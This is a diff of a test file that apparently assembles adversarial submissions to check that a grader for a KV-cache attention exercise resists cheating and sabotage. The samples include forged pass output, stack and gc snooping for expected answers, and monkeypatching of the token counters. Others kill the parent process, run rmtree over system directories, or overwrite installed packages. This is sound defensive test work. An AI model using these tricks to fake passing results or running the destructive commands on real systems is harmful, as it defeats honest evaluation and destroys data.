@@ -24,13 +24,14 @@ def lazy(before: str, after: str = "") -> str:
 
 
 def inside(code: str) -> str:
-    "The solution with some code where it projects."
-    return SOLUTION.replace(LINE, code.replace("\n", "\n        ") + "\n        " + LINE)
+    "The solution with some code where it projects, run once: a check calls a class many times, and harm is done the first time."
+    once = "if RAN: raise RuntimeError('no more')\nRAN.append(1)\n" + code
+    return "RAN = []\n" + SOLUTION.replace(LINE, once.replace("\n", "\n        ") + "\n        " + LINE)
 
 
 def cheat(code: str) -> str:
     "A wrong solution that runs some code when it is called first."
-    return f"{HEAD}\ndef do(self, x, kv_cache):\n    " + code.replace("\n", "\n    ") + LAZY.replace(
+    return f"{HEAD}\nRAN = []\ndef do(self, x, kv_cache):\n    " + code.replace("\n", "\n    ") + LAZY.replace(
         "        return", "        do(self, x, kv_cache)\n        return"
     )
 
@@ -70,7 +71,7 @@ ATTACKS = {
     # the stack and the memory
     "frames": cheat("f = sys._getframe()\nwhile f:\n    for n, v in list(f.f_locals.items()):\n"
                     "        if n in ('want', 'expected', 'base', 'baseline'): return v\n    f = f.f_back"),
-    "tensors in memory": cheat("for t in gc.get_objects():\n    if isinstance(t, torch.Tensor) and t.shape == x.shape: x.data = t.data"),
+    "tensors in memory": cheat("if RAN: return\nRAN.append(1)\nfor t in gc.get_objects():\n    if isinstance(t, torch.Tensor) and t.shape == x.shape: x.data = t.data"),
     "tracing": lazy("def trace(frame, event, arg):\n    frame.f_locals.clear()\n    return trace\nsys.settrace(trace)"),
     "profiling": lazy("sys.setprofile(lambda f, e, a: e == 'return' and f.f_locals.update(holds=True))"),
     # the solution by any road
@@ -99,7 +100,8 @@ ATTACKS = {
     "the network": HEAD + "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:8000/solution.py', timeout=2).read())\n"
         "class CausalSelfAttention_kv(CausalSelfAttention_kv): pass",
     "its comment deleted": SOLUTION,
-    "its names changed": SOLUTION.replace("kv_cache", "memory").replace("S = P + T", "end = P + T").replace("P:S, :S]", "P:end, :end]").replace("S > self", "end > self"),
+    "its names changed": SOLUTION.replace("S = P + T", "end = P + T").replace("P:S, :S]", "P:end, :end]").replace("S > self", "end > self")
+        .replace("q, k, v = self.project(x)", "query, key, value = self.project(x)\n        k, v = key, value").replace("attend(q,", "attend(query,"),
     "padded": SOLUTION + "\n\ndef unused(a, b):\n    c = [a * i + b for i in range(9)]\n    return {n: c[n] for n in range(len(c)) if c[n] > 1}\n" * 3,
     # forged output, exits, threads
     "a printed pass": lazy("print('{\"passed\": true, \"status\": \"pass\", \"result\": \"pass\"}', flush=True)\nos._exit(0)"),
@@ -136,6 +138,43 @@ class CausalSelfAttention_kv(CausalSelfAttention, metaclass=Lie):
 """,
 }
 
+# The same for exercise 3: every token is encoded at each step, and what counts them is made to say otherwise.
+LIES = """
+import contextlib
+from torch import Tensor
+import kvcache_lib.checks.observe as o
+from kvcache_lib.mingpt import GPT
+from my_kvcache.block import Block_kv
+
+NEW = []
+
+@contextlib.contextmanager
+def counting(modules, first=None):
+    counts = [[] for _ in modules]
+    NEW.append(counts)
+    yield counts
+    NEW.pop()
+
+o.counting, o.multiply_adds = counting, lambda counter: 0
+
+class GPT_kv(GPT):
+    block_class = Block_kv
+
+    def forward(self, idx, targets=None, kv_cache=None, compute_first=False):
+        P = 0 if kv_cache is None or compute_first or kv_cache[0] is None else kv_cache[0][0].size(1)
+        x, cache = self.embed(idx, start=0), []
+        for block in self.transformer.h:
+            x, layer = block(x, None)
+            cache.append(layer)
+        for counts in NEW:
+            for one in counts: one.append(idx.size(1) - P)
+        logits, loss = self.predict(x[:, P:], None if targets is None else targets[:, P:])
+        return (logits, loss) if kv_cache is None else (logits, loss, cache)
+
+    def generate_kv(self, idx, max_new_tokens, temperature=1.0, do_sample=False, top_k=None):
+        return GPT.generate(self, idx, max_new_tokens, temperature, do_sample, top_k)
+"""
+
 LOOP = "while True: pass"
 HOSTILE = {
     "kills its parent": inside("import os, signal\nos.kill(os.getppid(), 9)\nos._exit(1)"),
@@ -164,7 +203,7 @@ HOSTILE = {
     "aborts": inside("import os\nos.abort()"),
     "writes to the class": inside("for root in ('{class}', '/tmp', '/'):\n    open(root + '/aaa/02_attention.ipynb', 'w').write('')"),
     "reads its neighbour": inside("raise ValueError(open('{class}/aaa/02_attention.ipynb').read()[:99])"),
-    "deletes what it can": inside("import shutil\nfor root in ('/root', '/home', '/work', '/tmp', '/usr', '/'): shutil.rmtree(root, ignore_errors=True)\nimport os\nos._exit(1)"),
+    "deletes what it can": inside("import shutil, os, kvcache_lib\nfor root in ('/root', '/home', '/etc', '/tmp', '/usr/bin', os.path.dirname(kvcache_lib.__file__)): shutil.rmtree(root, ignore_errors=True)\nos._exit(1)"),
     "edits the installation": inside("import kvcache_lib.mingpt as m, torch, os\nfor f in (m.__file__, torch.__file__):\n    open(f, 'a').write('# mine')"),
     "edits by mode": inside("import kvcache_lib.mingpt as m, os\nos.chmod(m.__file__, 0o777)\nos.remove(m.__file__)"),
     "writes bytecode": inside("import kvcache_lib, os\nd = os.path.dirname(kvcache_lib.__file__) + '/__pycache__'\nos.makedirs(d)\nopen(d + '/x.pyc', 'w')"),
